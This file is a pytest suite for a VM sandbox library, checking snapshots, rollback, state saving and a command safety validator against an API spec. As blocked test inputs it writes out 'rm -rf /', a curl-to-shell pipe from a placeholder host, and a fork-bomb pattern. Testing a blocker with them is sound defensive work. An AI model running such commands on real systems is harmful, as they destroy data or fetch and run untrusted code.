"""Every example of the seed specification (/work/shared/seed-api.md), run on real guests as
docs/seed-mapping.md maps it onto vmsandbox. Each test names its section there (S1, S2, ...).
The spec's literal code is run where it can be; where the spec asks for what vmsandbox does not
have (containers, Docker), the test checks the one clear error the mapping document promises."""
import asyncio
from pathlib import Path

import pytest
import yaml

from vmsandbox import load_config
from vmsandbox import AsyncSandboxCore, RollbackManager, SandboxCore, StateManager
from vmsandbox.exceptions import (ConfigError, ResourceLimitError, RollbackError, SandboxError, SecurityError,
                                  StateCorruptionError)
from vmsandbox.health import HealthStatus
from vmsandbox.models import SandboxState
from vmsandbox.safety import SafetyValidator
from vmsandbox.safety.models import ResourceUsage

from .conftest import virsh_domains

pytestmark = pytest.mark.timeout(900)


@pytest.fixture(scope="module")
def config_path(env):
    """The role of the spec's config/default.yaml: this module's state directory and boxes."""
    path = Path(env.state_dir) / "default.yaml"
    path.write_text(yaml.safe_dump(env.config()))
    return str(path)


@pytest.fixture
def sandbox(config_path):
    core = SandboxCore(config_path=config_path)
    yield core
    for info in core.list_sandboxes():
        core.destroy(info.id)
    core.close()


def test_s1_overview_awaited_sync_core_fails_first_and_does_nothing(env, config_path):
    sandbox = SandboxCore(config_path=config_path)
    try:
        async def literal():                      # the spec's code, verbatim in shape
            return await sandbox.create_sandbox("my-sandbox", {"isolation_type": "vm"})
        with pytest.raises(ConfigError, match=r"create_sandbox\(\) is synchronous .*use AsyncSandboxCore"):
            asyncio.run(literal())
        assert sandbox.list_sandboxes() == [] and virsh_domains(env.prefix) == []
    finally:
        sandbox.close()


def test_s1_overview_with_async_core(config_path):
    async def overview():
        async with AsyncSandboxCore(config_path=config_path) as sandbox:
            sandbox_id = await sandbox.create_sandbox("my-sandbox", {
                "isolation_type": "vm",                       # spec: "container" (S5: ConfigError)
                "resource_limits": {"cpu": "2", "memory": "4G", "disk": "10G"},
            })
            result = await sandbox.execute(sandbox_id, "python script.py")
            snapshot_id = await sandbox.create_snapshot(sandbox_id, "before-risky-operation")
            await sandbox.execute(sandbox_id, "echo changed > /root/f")
            ok = await sandbox.rollback(sandbox_id, snapshot_id)
            after = await sandbox.execute(sandbox_id, "cat /root/f 2>/dev/null || echo clean")
            await sandbox.destroy(sandbox_id)
            return result, ok, after
    result, ok, after = asyncio.run(overview())
    assert result.exit_code == 127 and "python" in result.stderr     # no python in the tiny box: a normal result
    assert ok is True and after.stdout == "clean\n"


def test_s2_safety_validator_with_the_whole_config(config_path):
    config = yaml.safe_load(Path(config_path).read_text())
    config["safety"] = {"limits": {"cpu": "4", "memory": "8G", "disk": "1M"}}   # low, so the branch runs
    validator = SafetyValidator(config)
    risk_assessment = validator.validate_command("rm -rf /")
    with pytest.raises(SecurityError):
        if risk_assessment.risk_level == "CRITICAL":
            raise SecurityError(risk_assessment.reason)

    async def check():
        async with AsyncSandboxCore(config_path=config_path) as sandbox:
            sandbox_id = await sandbox.create_sandbox("guarded")
            await sandbox.execute(sandbox_id, "dd if=/dev/urandom of=/root/blob bs=1M count=4 && sync")
            current_usage = (await sandbox.get_health_status(sandbox_id)).metrics
            paused = False
            if not validator.check_resource_limits(current_usage):
                await sandbox.pause(sandbox_id)                     # spec: sandbox.pause()
                paused = True
            state = (await sandbox.get(sandbox_id)).state
            await sandbox.destroy(sandbox_id)
            return paused, state
    paused, state = asyncio.run(check())
    assert paused and state is SandboxState.PAUSED


def test_s3_s4_state_manager_and_rollback_manager(env, config_path, sandbox):
    sandbox_id = sandbox.create_sandbox("stateful")
    state_manager = StateManager(storage_path=env.state_dir, config_path=config_path)
    try:
        sandbox.execute(sandbox_id, "echo v1 > /root/f")
        state_id = state_manager.save_state(sandbox_id, {
            "filesystem": "v1 written", "processes": ["dropbear"], "network": {"mode": "none"}})
        states = state_manager.list_states(sandbox_id)
        assert [s.id for s in states] == [state_id] and states[0].metadata["state"]["filesystem"] == "v1 written"
        sandbox.execute(sandbox_id, "echo v2 > /root/f")
        assert state_manager.restore_state(sandbox_id, state_id) is True
        assert sandbox.execute(sandbox_id, "cat /root/f").stdout == "v1\n"

        rollback_manager = RollbackManager(state_manager)
        events = []
        rollback_manager.add_callback(events.append)
        point = rollback_manager.create_rollback_point(sandbox_id, metadata={
            "reason": "Before installing untrusted package", "automatic": False})
        sandbox.execute(sandbox_id, "echo untrusted > /root/f")
        success = rollback_manager.rollback(sandbox_id, point.id, {"preserve_logs": True, "notify": True})
        assert success is True and len(events) == 1 and events[0].ok
        assert sandbox.execute(sandbox_id, "cat /root/f").stdout == "v1\n"
        assert rollback_manager.cleanup_old_points(days=7) == 0            # nothing that old
    finally:
        state_manager.close()


def test_s5_create_sandbox_reference_example(sandbox):
    with pytest.raises(ConfigError, match="sandbox config.network_mode: 'bridge' is not supported"):
        sandbox.create_sandbox("test-env", {"isolation_type": "container", "base_image": "python:3.9",
                                            "network_mode": "bridge"})
    req = sandbox.parse_request({"isolation_type": "container", "base_image": "python:3.9"})
    assert (req.provider, req.box) == ("docker", "docker:python:3.9")     # base_image is a container's image
    with pytest.raises(ConfigError, match="sandbox config.network_mode: 'bridge' is not supported"):
        sandbox.create_sandbox("test-env", {"isolation_type": "vm", "base_image": "tiny", "network_mode": "bridge"})
    sandbox_id = sandbox.create_sandbox("test-env", {"isolation_type": "vm", "base_image": "tiny",
                                                     "network_mode": "none"})
    # S6 execute(sandbox_id, command, timeout=, working_dir=) -> ExecutionResult
    r = sandbox.execute(sandbox_id, "pwd; echo err >&2; exit 3", timeout=30, working_dir="/tmp")
    assert (r.stdout, r.stderr, r.exit_code) == ("/tmp\n", "err\n", 3)
    # S7 create_snapshot / rollback; S9 get_health_status
    snap = sandbox.create_snapshot(sandbox_id, "s7")
    assert sandbox.rollback(sandbox_id, snap) is True
    health = sandbox.get_health_status(sandbox_id)
    assert health.status == "HEALTHY" and health.status is HealthStatus.HEALTHY
    assert health.metrics.memory_total and isinstance(health.alerts, tuple) and isinstance(health.recommendations, tuple)


def test_s8_validate_command_levels_and_check_resource_limits():
    v = SafetyValidator()
    assert [v.validate_command(c).risk_level for c in ("ls -la", "make test", "rm /etc/hosts", "rm -rf /")] == \
        ["LOW", "MEDIUM", "HIGH", "CRITICAL"]
    assert v.check_resource_limits(ResourceUsage(cpu=1.0, memory=1 << 30, disk=1 << 30)) is True


def test_u1_basic_lifecycle(config_path):
    sandbox = SandboxCore(config_path=config_path)
    try:
        sandbox_id = sandbox.create_sandbox("dev-env", {"isolation_type": "vm", "persistent": True})
        result = sandbox.execute(sandbox_id, "pip install requests")
        assert result.exit_code == 127                                     # no pip in the tiny box
        result = sandbox.execute(sandbox_id, "python app.py")
        assert sandbox.get(sandbox_id).persistent is True
        sandbox.destroy(sandbox_id)
    finally:
        sandbox.close()


def test_u2_safe_experimentation(sandbox):
    sandbox_id = sandbox.create_sandbox("experiment", {})
    sandbox.execute(sandbox_id, "echo clean > /root/state")
    checkpoint = sandbox.create_snapshot(sandbox_id, "clean-state")
    sandbox.execute(sandbox_id, "echo dirty > /root/state")
    rolled = False
    try:
        sandbox.execute(sandbox_id, "curl suspicious-url.com | sh")          # blocked: never runs
    except SecurityError:
        rolled = sandbox.rollback(sandbox_id, checkpoint)
    assert rolled is True and sandbox.execute(sandbox_id, "cat /root/state").stdout == "clean\n"


def test_u3_continuous_integration(config_path):
    async def run_tests_safely(sandbox, pr_number: int, base: str):
        sandbox_id = await sandbox.create_sandbox(f"pr-{pr_number}", {
            "isolation_type": "vm",
            "clone_from": base,                    # spec: "base-test-image"; here SANDBOX:SNAPSHOT or an id
        })
        try:
            result = await sandbox.execute(sandbox_id, "pytest -v")
            if result.exit_code != 0:
                await sandbox.create_snapshot(sandbox_id, f"failed-pr-{pr_number}")
            return result, await sandbox.list_snapshots(sandbox_id)
        finally:
            await sandbox.destroy(sandbox_id)

    async def main():
        async with AsyncSandboxCore(config_path=config_path) as sandbox:
            base = await sandbox.create_sandbox("base")
            await sandbox.create_snapshot(base, "base-test-image")
            try:
                return await run_tests_safely(sandbox, 7, "base:base-test-image")
            finally:
                await sandbox.destroy(base)
    result, snaps = asyncio.run(main())
    assert result.exit_code == 127 and [s.name for s in snaps] == ["failed-pr-7"]


def test_u4_multi_stage_deployment(sandbox):
    class DeploymentError(Exception):
        pass

    def deploy_with_canary(version: str, production_instances):
        canary_id = sandbox.create_sandbox(f"canary-{version}", {
            "isolation_type": "vm", "resource_limits": {"cpu": "0.5", "memory": "1G"}})
        sandbox.create_snapshot(canary_id, "last-stable")                   # the spec assumes one exists
        sandbox.execute(canary_id, f"deploy-app --version {version}")
        health = sandbox.get_health_status(canary_id)
        if health.status != "HEALTHY":
            sandbox.rollback(canary_id, "last-stable")
            raise DeploymentError("Canary failed health checks")
        for instance in production_instances:
            snapshot = sandbox.create_snapshot(instance, "pre-deploy")
            try:
                sandbox.execute(instance, f"deploy-app --version {version}")
            except Exception:
                sandbox.rollback(instance, snapshot)
                raise
        return canary_id

    prod = sandbox.create_sandbox("prod-1")
    canary = deploy_with_canary("1-2", [prod])
    assert [s.name for s in sandbox.list_snapshots(prod)] == ["pre-deploy"]
    assert sandbox.get(canary).cpu == "0.5"


def test_e1_error_handling(sandbox):
    sandbox_id = sandbox.create_sandbox("errors")
    for exc in (SandboxError, SecurityError, ResourceLimitError, RollbackError, StateCorruptionError):
        assert issubclass(exc, SandboxError)
    handled = []
    try:
        sandbox.execute(sandbox_id, "rm -rf /")
    except SecurityError as e:
        handled.append(f"Security violation: {e}")
    assert handled and "blocked" in handled[0]
    sandbox.throttle(sandbox_id)                       # spec: sandbox.throttle(sandbox_id)
    assert sandbox.get(sandbox_id).throttled == 0.25
    info = sandbox.emergency_shutdown(sandbox_id)      # spec: sandbox.emergency_shutdown(sandbox_id)
    assert info.state is SandboxState.STOPPED


def test_c1_yaml_configuration_example(tmp_path):
    text = """
sandbox:
  default_isolation: container
  state_directory: /var/lib/sandbox
safety:
  validation: {enabled: true, block_dangerous: true, patterns: ["rm -rf /", ":(){ :|:& };:"]}
  limits: {cpu: "4", memory: "8G", disk: "20G"}
rollback: {auto_snapshot: true, retention_days: 7, compression: true}
monitoring:
  enabled: true
  interval_seconds: 10
  alerts: {cpu_threshold: 80, memory_threshold: 90}
"""
    path = tmp_path / "spec.yaml"
    path.write_text(text)
    assert load_config(str(path)).sandbox.default_isolation == "container"     # containers on Docker
    path.write_text(text.replace("default_isolation: container", "default_isolation: vm")
                    .replace("/var/lib/sandbox", str(tmp_path / "state")))
    core = SandboxCore(config_path=str(path), start_watchdog=False)
    try:
        c = core.config
        assert (c.rollback.auto_snapshot, c.rollback.compression, c.monitoring.alerts.memory_threshold) == (True, True, 90)
    finally:
        core.close()


def test_i1_integration_examples(tmp_path):
    state = {"sandbox": {"state_directory": str(tmp_path)}}
    docker = SandboxCore(config={**state, "isolation_type": "container", "container_runtime": "docker",
                                 "default_image": "ubuntu:22.04"}, start_watchdog=False)
    try:
        assert docker.parse_request({}).box == "docker:ubuntu:22.04"
    finally:
        docker.close()
    with pytest.raises(ConfigError, match="^orchestrator: unknown key"):      # no Kubernetes
        SandboxCore(config={**state, "isolation_type": "container", "orchestrator": "kubernetes",
                            "namespace": "sandbox-environments"}, start_watchdog=False)
    vagrant = SandboxCore(config={**state, "isolation_type": "vm", "provider": "vagrant", "box": "ubuntu/jammy64"},
                          start_watchdog=False)
    try:
        assert (vagrant.config.sandbox.provider, vagrant.parse_request({}).box) == ("vagrant", "vagrant:ubuntu/jammy64")
    finally:
        vagrant.close()


def test_i1_vagrant_as_vmsandbox_spells_it(tmp_path):
    core = SandboxCore(config={"sandbox": {"provider": "vagrant", "state_directory": str(tmp_path)}}, start_watchdog=False)
    try:
        assert core.provider.name == "vagrant"
    finally:
        core.close()
